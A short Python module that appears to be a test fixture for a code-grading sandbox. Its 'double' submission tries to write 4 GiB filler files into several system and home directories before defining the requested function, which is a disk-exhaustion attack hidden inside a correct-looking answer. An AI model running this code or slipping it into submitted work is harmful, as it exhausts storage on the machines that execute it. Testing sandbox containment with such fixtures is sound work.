"""Fills every folder that it can write to. All answers are right."""

HONEST = 6
KEEPS = 6
CODE = {
    "double": """
import os

for place in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~")):
    try:
        with open(os.path.join(place, "filler"), "wb") as file:
            for _ in range(4096):
                file.write(b"x" * 2**20)
    except OSError as error:
        print(error)
    finally:
        try:
            os.unlink(os.path.join(place, "filler"))
        except OSError:
            pass

def double(x): return 2 * x
""",
    "total": "right",
    "pick": "right",
}
